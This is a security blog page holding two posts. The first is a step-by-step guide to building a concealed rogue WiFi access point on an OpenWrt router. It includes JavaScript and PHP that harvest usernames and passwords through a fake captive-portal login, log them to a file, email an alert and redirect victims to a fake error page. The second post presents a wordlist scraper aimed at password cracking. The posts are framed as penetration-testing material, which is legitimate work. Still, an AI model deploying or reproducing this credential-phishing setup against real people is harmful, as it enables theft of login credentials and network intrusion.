Monday, March 27, 2017

Captive Portal WiFi Phishing with OpenWrt

As companies and organizations are becoming more aware of security risks and implementing proper protections it can be difficult for pentesters and red teams to gain access to a network. Social engineering is a great way to accomplish that initial entry. Unfortunately when phishing e-mails or calls aren't working and you don't want to be too aggressive in your tactics you need another method. What if we create an access point (AP) in the company's vicinity and redirect any users who connect, hopefully employees of our target company, to a customized captiveportal splash page to steal credentials? It would be similar to what you might find when connecting to a hotel wireless AP. In this attack we are depending on employees' desires to use their company or personal devices on an unmonitored "guest" wireless network - separate from the company's main AP.

There are many tools which conduct wireless attacks such as Wifiphisher, however, these typically perform aggressive attacks such as forcing a man-in-the-middle connection. Setting up a captive portal is a more passive approach. Something like a captive portal can be done with WiFiPineapple, but I wanted to create my own for customization, cost savings, and fun.

For this project I wanted something small and portable which can be hidden in or around a company's physical location. I chose the TP-Link TL-MR3020 router which ranges from $30-$50.For storage and concealment purposes I used a SanDisk Cruzer Fit 8GB USB flash drive which can be bought for as little as $7. Optionally a portable battery pack can be used to power the router and those are fairly inexpensive as well. To connect my router to the internet during an attack I am using a Verizon MiFi, however, you could also use a nearby public AP as well.

The router is meant to be a client of the MiFi while broadcasting its own AP which redirects users to the captive portal where credentials can be stolen or malware can be introduced. Once we get a positive hit we can use the internet connection to contact us remotely. A diagram of the attack would look something like this:

The following is a step-by-step guide of my process. Skip to step 7 for the good stuff!

Step 1: Flash default router firmware

The default URL to access the web interface of the TP-Link router is with the credentials of admin:admin. For more detailed information regarding the router’s default configuration consultthe router's user guide. Now flash the default firmware with the factory OpenWrt Barrier Breaker 14.07 firwmare: openwrt-ar71xx-generic-tl-mr3020-v1-squashfs-factory.bin. Note: No other version of OpenWrt has enough space to install the packages required to use the flash drive and expand the storage. After flashing OpenWrt you should be able to access the web interface at If you are having issues connecting try disabling other network adapters not being used to communicate with the router.

You may want to change the router’s IP address while you are setting everything up if it conflicts with other devices on your network. Go to Network > Interfaces > (br-lan) Edit > IPv4 Address to > Save & Apply. After the settings are saved you will probably need to request a new address to be able to connect to

Step 2: Connect router to internet

To connect the TP-Link TL-MR3020 router to the internet it must be aclient of another internet-connected router first. To do this go to Network > Wifi > Scan > Join Network > WPA Passphrase (if applicable) > Submit. By default the mode should be “Client”. Submit these changes for the MR3020 to become a client of your home router. At this point you can confirm you have internet access by updating the package list or pinging a public host via SSH.

Step 3: Expand memory

The TP-Link TL-MR3020 router comes with very little memory which makes installing the packages I wanted impossible. Fortunately with a cheap flash drive I can expand that memory. I followed this resource from using ExtRoot, however, when I tried installing the packages via the command opkg install block-mount kmod-usb-storage kmod-fs-ext4 I received the following errors:

To fix these errors we use WinSCP to replace the /etc/opkg.conf file with the following then run opkg update via SSH:
src/gz barrier_breaker_packagessrc/gz barrier_breaker_base
src/gz barrier_breaker_luci
src/gz barrier_breaker_management
src/gz barrier_breaker_routing
src/gz barrier_breaker_telephony
src/gz barrier_breaker_oldpackages
dest root /
dest ram /tmp
lists_dir ext /var/opkg-lists
option overlay_root /overlay
Now the command opkg install block-mount kmod-usb-storage kmod-fs-ext4 should install the packages correctly. Just as ediy mentions, you can ignore a couple of kmod errors. Now reboot the router via the web interface or SSH. Partition the flash drive and insert it into the router. In an SSH terminal type block info to get the name of the flash drive:
Now the following commands can be used to copy rootfs to the flash drive:
mkdir /mnt/sda1
mount /dev/sda1 /mnt/sda1
mkdir -p /tmp/cproot
mount --bind / /tmp/cproot
tar -C /tmp/cproot/ -cvf - . | tar -C /mnt/sda1/ -xf –
umount /tmp/cproot/
If /etc/config/fstab does not exist on the router, type “block detect > /etc/config/fstab” via SSH and now make the following changes to the file via WinSCP:
Now the router can be rebooted and verify the increased amount of space using df –h.

Step 4: Create access point

To create an access point to broadcast to potentialvictims go to Network > Wifi > Add and create the following interface. Make sure the lan checkbox is checked. Select Wireless Security if you want to configure authentication. Save & Apply these settings. You should now have your TP-Link TL-MR3020 router as a client to your home router whichit will use for internet and also its own broadcasting access point.

Step 5: Install NoDogSplash

To install NoDogSplash I used the web interface by going to System > Software > Filter “nodogsplash” > Find package > Install. If you can’t find the nodogsplash package, be sure to update your package lists:

Step 6: Install PHP

The ability to install various packages such as PHP was one of the main reasons why I initially expanded the amount of storage I had. Installing PHP is optional depending on what functionality you want and how you implement it. Since the NoDogSplash server does not support PHP, this allows me to use PHP with the default OpenWRT uHTTPd server without installing another separate web server. Installing PHP is easy via SSH with the opkg install php5 php5-cgi command. If this doesn’t work make sure you have the line src/gz barrier_breaker_oldpackages in your /etc/opkg.config file and update the package list. Finally in the /etc/config/uhttpd file add the line list interpreter '.php=/usr/bin/php-cgi' to the 'main' section.

Step 7: Configure splash page and capture credentials

This is the fun part where we can get creative! We want to create a splash page which is specific to our target environment in an attempt to trick users into submitting their credentials to us. We could also attempt to execute malicious JavaScript or serve a malicious file such as an executable, browser extension, or PDF. For now we will just capture user input such as local or network credentials which we can use to gain a foothold in the network or for use in other attacks.
Creating a realistic splash page targeted towards a company or organization can be accomplished with a simple mix of JavaScript, HTML, and CSS. Most companies will have specific logos, public images,color schemes, fonts, and more which can be used to create a realistic splash page. Here is an example of a simple splash page with a login form:

To capture any submitted credentials I use the following code for the login form (snippet):
<script type="text/javascript">
 function submitTextToCapture() {
      username = document.getElementById("username").value;
      password = document.getElementById("password").value;
      window.location = "" + username + "&password=" + password;
<form class="login-form">
 <input type="text" id="username" placeholder="username"/>
 <input type="password" id ="password" placeholder="password"/>
 <button type="button" id="button" onclick="submitTextToCapture()">Continue</button>
This splash page is served from the NoDogSplashserver (/etc/nodogsplash/htdocs/) using port 2050. After a user enters their credentials and submits them, window.location redirects the user to capture.php which is served from the default OpenWRT uHTTPd server (/www/) on port 80. Sending the credentials to our capture.php page now gives us the ability to use PHP to perform the actions we want. As an example, I want to store credentials to the router and send myself an e-mail to alert me after credentials have been captured. To write to a local file I use the PHP fwrite function:
$username = $_GET["username"];
$password = $_GET["password"];
$redir = "";

$file = fopen("stored.txt", "a");
fwrite($file, "Username: " . $username . "\n" . "Password: " . $password . "\n\n");
To send an e-mail alert install msmtp on the router by running the command opkg install msmtp. Once installed, edit the /etc/msmtprc configuration file to include mail host information:
The php.ini file must then be edited to include the line sendmail_path = "/usr/bin/msmtp -C /path/to/your/config -t" which is usually /etc/msmtprc. For further instruction, see here. I then included the following code in my capture.php file to send an e-mail alert with some information about the client and redirect them to a fake error page:
$browser = $_SERVER['HTTP_USER_AGENT'];
$referrer = $_SERVER['HTTP_REFERER'];

$msg = "Credentials have been captured!\n\nIP: {$ip}\nBrowser: {$browser}\nReferrer: {$referrer}";

mail("","*Captured Credentials*",$msg);

echo '<script type="text/javascript">window.location ="' . $redir . '"</script>';
The final result is an e-mail alert and the credentials being stored to a local file on the router:
Lastly, we can redirect the user to an error page stating the WiFi service is unavailable for some reason to reduce suspicions since we never intended on actually providing internet access. The goal of this attack is to be passive and inconspicuous.
All done! In the future I may post various ways to deliver other realistic payloads such as a malicious executable or browser extension.

Resources: - Found this after my project, similar actions for pineapple.

Thursday, March 23, 2017

SmeegeScrape: Text Scraper and Custom Word List Generator

Click Here to Download Source Code

Customize your security testing with! It's a simple python script to scrape text from varioussources including local files and web pages, and turn the text into a custom word list. A customized word list has many uses, from web application testing to password cracking, having a specific set of words to use against a target can increase efficiency and effectiveness during a penetration test. I realize there are other text scrapers publicly available however I feel this script is simple, efficient, and specific enough to warrant its own release. This script is able to read almost any file which has cleartext in it that python can open. I have also included support for file formats such as pdf, html, docx, and pptx.


Usage: {-f file | -d directory | -u web_url | -l url_list_file} [-o output_filename] [-s] [-i] [-min #] [-max #]

One of the following input types is required:(-f filename), (-d directory), (-u web_url), (-l url_list_file)

-h, --help show this help message and exit
-f LOCALFILE, --localFile LOCALFILE Specify a local file to scrape
-d DIRECTORY, --fileDirectory DIRECTORY Specify a directory to scrape the inside files
-u URL, --webUrl URL Specify a url to scrape page content (correct format: http(s)://
-l URL_LIST_FILE, --webList URL_LIST_FILE Specify a text file with a list of URLs to scrape (separated by newline)
-o FILENAME, --outputFile FILENAME Specify output filename (default: smeegescrape_out.txt)-i, --integers Remove integers [0-9] from all output
-s, --specials Remove special characters from all output
-min # Specify the minimum length for all words in output
-max # Specify the maximum length for all words in output

Scraping a local file: -f Test-File.txt
This is a sample text file with different text.
This file could be different filetypes including html, pdf, powerpoint, docx, etc.
Anything which can be read in as cleartext can be scraped.
I hope you enjoy SmeegeScrape, feel free to comment if you like it!


Each word is separated by a newline. The options -i and -s can be used to remove any integers or special characters found. Also, the -min and -max arguments can be used to specify desired word length.

Scraping a web page: -u -si

To scrape web pages we use the python urllib2 module. The format of the url is checked via regex and it must be in the correct format (e.g. http(s)://

web scrape output

Scraping multiple files from a directory: -d test\ -si -min 5 -max 12

The screen output shows each file which was scraped, the total number of unique words found based on the user's desired options, and the output filename.

directory scrape output

Scraping multiple URLs: -l weblist.txt -si -min 6 -max 10

The -l option takes in a list of web urls from a text file and scrapes each url. Each scraped URL is displayed on the screen as well as a total number of words scraped.

url list scraping url list scraping 2This weblist option is excellent to use with Burp Suite to scrape an entire site. To do this, proxy your web traffic through Burp and discover as much content on the target site as you can (spidering, manual discovery, dictionary attack on directories/files, etc.). After the discovery phase, right click on the target in the site map and select the option "Copy URLs in this host" from the drop down list. In this instance for even a small blog like mine over 300 URLs were copied. Depending on the size of the site the scraping could take a little while, be patient!

burp copy URLs in host

Now just paste the URLs into a text file and run that as input with the -l option. -l SmeegeScrape-Burp-URLs.txt -si -min 6 -max 12
final output after parsing

So very easily we just scraped an entire site for words with specific attributes (length and character set) that we want.

As you can see there are many different possibilities with this script. I tried to make it as accurate as possible however sometimes the script depends on modules such as nltk, docx, etc. which may not always work correctly. In situations like this where the script is unable to read a certain file format, I would suggest trying to convert it to a more readable file type or copy/paste the text to a text file which can always be scraped.

The custom word list dictionaries you create are up to your imagination so have fun with it! This script could also be easily modified to extract phrases or sentences which could be used with password cracking passphrases. Here are a couple examples I made:

